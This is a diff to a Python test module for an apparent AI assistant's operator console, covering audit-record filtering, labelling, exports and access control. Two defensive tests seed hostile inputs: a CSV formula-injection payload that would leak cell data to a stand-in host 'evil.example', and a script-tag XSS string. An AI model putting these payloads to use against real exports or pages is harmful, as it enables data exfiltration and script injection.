@@ -12,37 +12,44 @@ from assistant.safety.audit import pseudonym
 from memory import store
 from memory.db import write
 from memory.models import AuditRecord, Author
-from tests.appserver import served_on
-from tests.conftest import DATABASES, admin_url_for
+from tests.appserver import fresh, signed_in_operator
+
+# The shared app's database holds other modules' records too: every query of the console's numbers
+# is narrowed to this module's user by her pseudonym (filled in by the fixture).
+OURS: dict[str, str] = {}
+_uma: dict[str, str] = {}  # her user name, for a test that adds to her records
 
 
-@pytest.fixture(scope="module", params=DATABASES)
-def console(request):
-    with served_on(request.param, admin_url_for(request), "hyperalign-console-") as (server, engine):
-        yield from _signed_in(server, engine)
+@pytest.fixture(scope="module")
+def console(shared_app):
+    server, engine = shared_app
+    yield from _signed_in(server, engine)
 
 
 def _signed_in(server, engine):
-    operator = httpx.Client(base_url=server.base_url, timeout=30)
-    assert server.login(operator, "olga", "password1").status_code == 200  # the first account: operator
+    # "olga" as the tests below name her; unique on the shared app, since only this module uses it.
+    operator = signed_in_operator(server, engine, "olga")
     user = httpx.Client(base_url=server.base_url, timeout=30)
-    assert server.login(user, "uma", "password1").status_code == 200
+    name = fresh("uma")
+    assert server.login(user, name, "password1").status_code == 200
 
     def seed(session):
-        uma = store.get_user(session, identifier="uma")
-        store.upsert_thread(session, thread_id="uma-t", user_id=uma.id)
+        uma = store.get_user(session, identifier=name)
+        store.upsert_thread(session, thread_id="console-uma-t", user_id=uma.id)
         for i, (decision, rules) in enumerate([("refuse", ["IWP.R1"]), ("safe_complete", ["SSH.S1"]),
                                                ("refuse", ["VIO.R1"])]):
-            store.save_message(session, step_id=f"um{i}", thread_id="uma-t", user_id=uma.id, author=Author.USER,
-                               content=f"uma's request number {i}")
-            store.save_message(session, step_id=f"ur{i}", thread_id="uma-t", user_id=uma.id,
+            store.save_message(session, step_id=f"um{i}", thread_id="console-uma-t", user_id=uma.id,
+                               author=Author.USER, content=f"uma's request number {i}")
+            store.save_message(session, step_id=f"ur{i}", thread_id="console-uma-t", user_id=uma.id,
                                author=Author.ASSISTANT, content=f"the reply number {i}")
-            session.add(AuditRecord(pseudonym=pseudonym(session, user_id=uma.id), thread_id="uma-t",
+            session.add(AuditRecord(pseudonym=pseudonym(session, user_id=uma.id), thread_id="console-uma-t",
                                     message_id=f"um{i}", reply_id=f"ur{i}", decision=decision,
                                     rule_ids_json=json.dumps(rules), rationale=f"rationale {i}",
                                     spec_version="v1", model="fake-chat", latency_ms=50.0))
+        return pseudonym(session, user_id=uma.id)
 
-    write(engine, seed)
+    OURS.update(pseudonym=write(engine, seed))
+    _uma.update(name=name)
     yield server, engine, operator, user
     operator.close()
     user.close()
@@ -66,10 +73,10 @@ def test_every_console_route_is_401_anonymous_and_403_for_a_user(console, method
 
 def test_the_operator_filters_reads_labels_and_exports(console):
     _, engine, operator, _ = console
-    listing = operator.get("/api/console/records", params={"decision": "refuse"}).json()
+    listing = operator.get("/api/console/records", params={"decision": "refuse", **OURS}).json()
     assert [r["rule_ids"] for r in listing["records"]] == [["VIO.R1"], ["IWP.R1"]] and listing["total"] == 2
     assert "uma's request" not in json.dumps(listing)  # no message text in lists
-    page = operator.get("/console", params={"decision": "refuse"})
+    page = operator.get("/console", params={"decision": "refuse", **OURS})
     assert page.status_code == 200 and "text/html" in page.headers["content-type"]
     assert "2 records" in page.text and "uma's request" not in page.text and "<svg id='chart'" in page.text
     assert "deliberation failed on 0 of 2 audited records (0.0%)" in page.text
@@ -80,17 +87,20 @@ def test_the_operator_filters_reads_labels_and_exports(console):
                           follow_redirects=False)
     assert saved.status_code == 303
     assert "over_refusal by olga" in operator.get(f"/console/records/{record_id}").text
-    metrics = operator.get("/api/console/metrics").json()
+    metrics = operator.get("/api/console/metrics", params=OURS).json()
     assert metrics["reviewed_refusals"] == 1 and metrics["over_refusal_share"] == 1.0
-    rows = list(csv.DictReader(io.StringIO(operator.get("/console/export.csv", params={"decision": "refuse"}).text)))
+    exported = operator.get("/console/export.csv", params={"decision": "refuse", **OURS}).text
+    rows = list(csv.DictReader(io.StringIO(exported)))
     assert [r["rule_ids"] for r in rows] == ["IWP.R1", "VIO.R1"] and rows[0]["request"] == "uma's request number 0"
     assert rows[0]["label"] == "over_refusal" and rows[0]["note"] == "chemistry class"
-    lines = operator.get("/api/console/export", params={"format": "jsonl", "rule_id": "SSH.S1"}).text.splitlines()
+    lines = operator.get("/api/console/export",
+                         params={"format": "jsonl", "rule_id": "SSH.S1", **OURS}).text.splitlines()
     assert [json.loads(line)["decision"] for line in lines] == ["safe_complete"]
     with engine.connect() as conn:
         from sqlalchemy import text
 
-        actions = [tuple(r) for r in conn.execute(text("SELECT operator, action FROM operator_action ORDER BY id"))]
+        actions = [tuple(r) for r in conn.execute(text(
+            "SELECT operator, action FROM operator_action WHERE operator = 'olga' ORDER BY id"))]
     assert actions[:2] == [("olga", "view"), ("olga", "label")] and actions.count(("olga", "export")) == 2
 
 
@@ -103,9 +113,9 @@ def test_the_operator_filters_reads_labels_and_exports(console):
 ])
 def test_bad_filters_are_answered_clearly(console, params, status, says):
     _, _, operator, _ = console
-    answer = operator.get("/api/console/records", params=params)
+    answer = operator.get("/api/console/records", params={**params, **OURS})
     assert answer.status_code == status and says in answer.text
-    page = operator.get("/console", params=params)
+    page = operator.get("/console", params={**params, **OURS})
     assert page.status_code == status and says in page.text
 
 
@@ -124,10 +134,10 @@ def test_a_message_that_looks_like_a_formula_is_exported_as_text_in_csv_and_exac
     formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
 
     def seed(session):
-        uma = store.get_user(session, identifier="uma")
-        store.save_message(session, step_id="formula-m", thread_id="uma-t", user_id=uma.id, author=Author.USER,
-                           content=formula)
-        session.add(AuditRecord(pseudonym=pseudonym(session, user_id=uma.id), thread_id="uma-t",
+        uma = store.get_user(session, identifier=_uma["name"])
+        store.save_message(session, step_id="formula-m", thread_id="console-uma-t", user_id=uma.id,
+                           author=Author.USER, content=formula)
+        session.add(AuditRecord(pseudonym=pseudonym(session, user_id=uma.id), thread_id="console-uma-t",
                                 message_id="formula-m", reply_id="", decision="refuse", rule_ids_json='["IWP.R1"]',
                                 rationale="-1 looks like a number", spec_version="formula-spec", model="fake-chat",
                                 latency_ms=5.0))
@@ -162,10 +172,10 @@ def test_a_hostile_message_and_operator_name_appear_escaped_exactly_once(console
     hostile = "<script>alert('owned')</script> & \"q\""
 
     def seed(session):
-        uma = store.get_user(session, identifier="uma")
-        store.save_message(session, step_id="hostile-m", thread_id="uma-t", user_id=uma.id, author=Author.USER,
-                           content=hostile)
-        record = AuditRecord(pseudonym=pseudonym(session, user_id=uma.id), thread_id="uma-t", message_id="hostile-m",
+        uma = store.get_user(session, identifier=_uma["name"])
+        store.save_message(session, step_id="hostile-m", thread_id="console-uma-t", user_id=uma.id,
+                           author=Author.USER, content=hostile)
+        record = AuditRecord(pseudonym=pseudonym(session, user_id=uma.id), thread_id="console-uma-t", message_id="hostile-m",
                              reply_id="", decision="deliberation_failed", rule_ids_json="[]", rationale=hostile,
                              spec_version="hostile-spec", model="fake-chat", latency_ms=5.0, label="correct",
                              labelled_by=hostile, note="=1+1")
